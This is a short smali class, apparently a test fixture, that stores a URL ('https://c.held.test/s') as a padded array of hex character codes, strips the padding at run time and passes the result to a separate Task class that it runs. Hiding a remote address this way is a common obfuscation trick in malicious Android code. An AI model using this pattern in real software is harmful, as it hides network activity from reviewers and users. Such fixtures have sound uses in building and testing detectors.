.class Ltest/held/Chars;
.super Ljava/lang/Object;
# static fields
.field private static final SIGNS:[C
# direct methods
.method static constructor <clinit>()V
    .registers 1
    const/16 v0, 0x17
    new-array v0, v0, [C
    fill-array-data v0, :array_a
    sput-object v0, Ltest/held/Chars;->SIGNS:[C
    return-void
    :array_a
    .array-data 2
        0x78s
        0x68s
        0x74s
        0x74s
        0x70s
        0x73s
        0x3as
        0x2fs
        0x2fs
        0x63s
        0x2es
        0x68s
        0x65s
        0x6cs
        0x64s
        0x2es
        0x74s
        0x65s
        0x73s
        0x74s
        0x2fs
        0x73s
        0x78s
    .end array-data
.end method
.method constructor <init>()V
    .registers 1
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method
.method static open()V
    .registers 4
    new-instance v0, Ljava/lang/String;
    sget-object v1, Ltest/held/Chars;->SIGNS:[C
    array-length v2, v1
    const/4 v3, 0x1
    sub-int/2addr v2, v3
    invoke-static {v1, v3, v2}, Ljava/util/Arrays;->copyOfRange([CII)[C
    move-result-object v1
    invoke-direct {v0, v1}, Ljava/lang/String;-><init>([C)V
    new-instance v1, Ltest/held/Task;
    invoke-direct {v1, v0}, Ltest/held/Task;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1}, Ltest/held/Task;->run()V
    return-void
.end method
